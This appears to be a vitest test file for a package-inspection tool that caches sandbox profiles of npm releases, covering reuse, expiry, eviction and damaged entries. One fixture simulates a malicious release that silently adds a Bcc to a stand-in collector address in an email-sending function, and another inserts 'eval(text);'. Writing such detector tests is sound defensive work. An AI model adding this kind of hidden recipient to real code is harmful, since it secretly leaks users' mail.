import { mkdir, mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { digestOf } from '../../src/artifacts/digest.ts';
import { readCodeVersion } from '../../src/inspections/code-version.ts';
import type { ArtifactSide } from '../../src/inspections/artifact-side.ts';
import { inspectArtifacts } from '../../src/inspections/inspect-artifacts.ts';
import type { Inspection } from '../../src/inspections/inspection.ts';
import {
  openProfileCache,
  type ProfileCache,
  type ProfileCacheOptions,
} from '../../src/inspections/profile-cache.ts';
import { readSides } from '../../src/inspections/read-sides.ts';
import type { Sandbox } from '../../src/inspections/sandbox.ts';
import { openSandboxes, type Sandboxes } from '../../src/inspections/sandboxes.ts';
import { defaultPolicy } from '../../src/policies/policy.ts';
import { openLog, silentLog, type Log } from '../../src/runtime/log.ts';
import { buildPackageTarball } from '../support/archive-builder.ts';
import { startSandboxHere } from '../support/sandbox-in-process.ts';

const entry = new URL('../../workers/sandbox/profile-artifact.ts', import.meta.url);
const start = Date.UTC(2026, 0, 1);
const day = 24 * 60 * 60 * 1000;

let sandboxes: Sandboxes;
let root: string;
let folder: string;
let asked: string[];
let time: number;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'watchkeeper-cache-'));
  const real = openSandboxes({ entry, concurrency: 1, startOne: startSandboxHere });
  // Notes what is asked for; the work is that of a sandbox.
  sandboxes = {
    close: () => real.close(),
    use: (work) => real.use((sandbox) => work(noting(sandbox))),
  };
});

afterAll(async () => {
  sandboxes.close();
  await rm(root, { recursive: true, force: true });
});

beforeEach(async () => {
  folder = await mkdtemp(join(root, 'entries-'));
  asked = [];
  time = start;
});

function noting(sandbox: Sandbox): Sandbox {
  return {
    ...sandbox,
    async profile(which, ...rest) {
      const answer = await sandbox.profile(which, ...rest);
      const read = answer.facts.filter(({ facts }) => facts !== undefined).map(({ path }) => path);
      asked.push(`${which}: ${read.filter((path) => path.endsWith('.js')).join(' ')}`);
      return answer;
    },
    async recall(which, archive, facts, subject) {
      asked.push(`${which} recalled`);
      return sandbox.recall(which, archive, facts, subject);
    },
  };
}

const mail = (fields: string): string =>
  `const postmark = require('postmark');
const client = new postmark.ServerClient(process.env.TOKEN);
exports.send = (to) => client.sendEmail({ From: 'a@b.example', To: to, TextBody: 'x'${fields} });`;

const files = {
  'index.js': `require('./send.js'); require('./other.js');`,
  'other.js': `exports.other = () => fetch('https://api.acme.example/v1');`,
  'send.js': mail(''),
};
const old = side('acme', '1.0.15', files);
const next = side('acme', '1.0.16', {
  ...files,
  'send.js': mail(", Bcc: 'collector@mailbox.invalid'"),
});

function side(name: string, version: string, code: Readonly<Record<string, string>>): ArtifactSide {
  const manifest = JSON.stringify({ name, version, main: 'index.js' });
  const bytes = buildPackageTarball({ 'package.json': manifest, ...code });
  const digest = digestOf(bytes);
  return {
    party: { id: `pkg:npm/${name}@${version}`, name, version, digest },
    input: { kind: 'archive', bytes, digest },
  };
}

function open(options: Partial<ProfileCacheOptions> = {}): Promise<ProfileCache> {
  return openProfileCache({ folder, log: silentLog, now: () => time, ...options });
}

async function inspect(
  release: ArtifactSide,
  baseline: ArtifactSide | undefined,
  cache: ProfileCache | undefined,
): Promise<Inspection> {
  asked = [];
  const job = { release, firstSight: false, ...(baseline === undefined ? {} : { baseline }) };
  const keeping = cache === undefined ? {} : { keeping: { cache, now: () => time } };
  return inspectArtifacts({ sandboxes, policy: defaultPolicy, ...keeping }, job);
}

async function entries(): Promise<string[]> {
  const found = await readdir(folder, { recursive: true, withFileTypes: true });
  return found.filter((one) => one.isFile()).map((one) => join(one.parentPath, one.name));
}

describe('what is kept of a release', () => {
  test('serves as the next baseline: only the changed file is read, and the findings are the same', async () => {
    const cold = await inspect(next, old, undefined);
    expect(cold.findings).toMatchObject([{ rule: 'recipient-added', severity: 'critical' }]);
    expect(cold.findings[0]?.evidence[0]?.hunk).toContain('Bcc');
    const cache = await open();
    await inspect(old, undefined, cache);
    expect(asked).toEqual(['release: index.js other.js send.js']);
    const warm = await inspect(next, old, cache);
    expect(asked).toEqual(['baseline recalled', 'release: send.js']);
    expect(warm).toEqual(cold);
  });

  test('is passed on with what the next release shares', async () => {
    const cache = await open();
    await inspect(next, old, cache);
    expect(asked).toEqual(['baseline: index.js other.js send.js', 'release: send.js']);
    const later = side('acme', '1.0.17', { ...files, 'other.js': 'eval(text);' });
    await inspect(later, next, cache);
    // The old text of `send.js` is not that of the baseline, so it is read again.
    expect(asked).toEqual(['baseline recalled', 'release: other.js send.js']);
  });

  test('is for one package: another that ships the same files has them read for itself', async () => {
    const cache = await open();
    await inspect(old, undefined, cache);
    const twin = side('twin', '1.0.15', files);
    await inspect(side('twin', '1.0.16', files), twin, cache);
    expect(asked[0]).toBe('baseline: index.js other.js send.js');
    // Not even under the very same digest.
    const { digest } = old.party;
    const renamed = {
      ...old,
      party: { ...twin.party, ...(digest === undefined ? {} : { digest }) },
    };
    expect(await cache.read(old.party)).toBeDefined();
    expect(await cache.read(renamed.party)).toBeUndefined();
  });

  test('is nothing when the sandbox had read another package before', async () => {
    const cache = await open();
    await inspect(next, side('stranger', '1.0.0', files), cache);
    expect(await cache.read(next.party)).toBeUndefined();
  });

  test('is nothing for a folder or a tarball of this machine', async () => {
    const cache = await open();
    const local = { ...next, party: { ...next.party, name: '' } };
    await inspect(local, { ...old, party: { ...old.party, name: '' } }, cache);
    expect(await entries()).toEqual([]);
  });

  test('ends with the code that made it', async () => {
    const cache = await open();
    await inspect(old, undefined, cache);
    const other = await open({ codeVersion: async () => 'another' });
    expect(await cache.read(old.party)).toBeDefined();
    expect(await other.read(old.party)).toBeUndefined();
  });

  test('ends after a month, however often it was passed on', async () => {
    const cache = await open();
    await inspect(old, undefined, cache);
    time = start + 29 * day;
    await inspect(next, old, cache);
    expect(await cache.read(next.party)).toMatchObject({ since: start });
    time = start + 31 * day;
    expect(await cache.read(next.party)).toBeUndefined();
  });
});

describe('an entry that cannot be used', () => {
  const damages: readonly (readonly [string, (bytes: Buffer) => Buffer])[] = [
    ['cut off', (bytes) => bytes.subarray(0, bytes.length - 10)],
    ['emptied', () => Buffer.alloc(0)],
    ['of which one byte is another', (bytes) => Buffer.from(bytes.fill(0x20, 200, 201))],
    ['that is something else', () => Buffer.from('{"profile":{}}')],
  ];

  test.each(damages)('because it was %s is made again, and that is said', async (_, damage) => {
    const lines: string[] = [];
    const log: Log = openLog({ style: 'json', write: (line) => lines.push(line) });
    const cache = await open({ log });
    const expected = await inspect(next, old, cache);
    for (const path of await entries()) await writeFile(path, damage(await readFile(path)));
    expect(await inspect(next, old, cache)).toEqual(expected);
    expect(asked).toEqual(['baseline: index.js other.js send.js', 'release: send.js']);
    expect(lines.join('')).toContain('A kept profile cannot be used and is made again');
    expect(await cache.read(old.party)).toBeDefined();
  });

  test('because its facts make no sense costs one more look, which says why, and changes nothing', async () => {
    const lines: string[] = [];
    const log: Log = openLog({ style: 'json', write: (line) => lines.push(line) });
    const cache = await open({ log });
    const expected = await inspect(next, old, cache);
    const kept = await cache.read(old.party);
    if (kept === undefined) throw new Error('nothing was kept');
    const senseless = kept.facts.map((one) => ({
      ...one,
      facts: Buffer.from(
        JSON.stringify({
          ...(JSON.parse(Buffer.from(one.facts ?? []).toString()) as object),
          observations: [null],
          calls: {
            calls: { sites: [null], imported: [null], methods: [null] },
            exports: [null],
            methods: [null],
          },
        }),
      ),
    }));
    await cache.write(old.party, { ...kept, facts: senseless });
    expect(await inspect(next, old, cache)).toEqual(expected);
    expect(asked).toEqual([
      'baseline recalled',
      'baseline: index.js other.js send.js',
      'release: send.js',
    ]);
    expect(lines.map((line) => JSON.parse(line) as object)).toMatchObject([
      { subject: old.party.id, error: { code: 'sandbox-answer-invalid' } },
    ]);
  });
});

test('a release is sent behind what was kept, without waiting until that is taken over', async () => {
  const cache = await open();
  await inspect(old, undefined, cache);
  const released = await sandboxes.use(async (sandbox) => {
    const sent = Promise.withResolvers<void>();
    const slow: Sandbox = {
      ...sandbox,
      recall: async (...given) => {
        await Promise.all([sent.promise, sandbox.recall(...given)]);
      },
      profile: async (...given) => {
        sent.resolve();
        return sandbox.profile(...given);
      },
    };
    const sides = { release: next, baseline: old };
    return readSides(slow, sides, { cache, now: () => time });
  });
  expect(released.release.version).toBe('1.0.16');
});

test.each([
  ['a file of the code', 'src/detectors/one.ts', 'other'],
  ['a new file', 'src/languages/javascript/new.ts', 'text'],
  ['a version of a library', 'package.json', '{"dependencies":{"parser":"1.0.1"}}'],
])('%s that changes names another code', async (_, path, text) => {
  for (const stage of ['artifacts', 'detectors', 'languages/javascript', 'manifests', 'profiles']) {
    await mkdir(join(folder, 'src', stage), { recursive: true });
  }
  await writeFile(join(folder, 'src/detectors/one.ts'), 'text');
  await writeFile(join(folder, 'package.json'), '{}');
  const before = await readCodeVersion(folder);
  expect(await readCodeVersion(folder)).toBe(before);
  await writeFile(join(folder, path), text);
  expect(await readCodeVersion(folder)).not.toBe(before);
});

test('the oldest entries go when there is too much', async () => {
  const cache = await open();
  await inspect(old, undefined, cache);
  const [first = ''] = await entries();
  const { size } = await stat(first);
  await utimes(first, (start - day) / 1000, (start - day) / 1000);
  const small = await open({ maxBytes: 1.5 * size });
  await inspect(next, undefined, small);
  expect(await entries()).toHaveLength(1);
  expect(await small.read(next.party)).toBeDefined();
});

test('a folder that cannot be written slows down and stops nothing', async () => {
  await writeFile(join(folder, 'taken'), '');
  const cache = await open({ folder: join(folder, 'taken') });
  expect((await inspect(next, old, cache)).findings).toHaveLength(1);
});
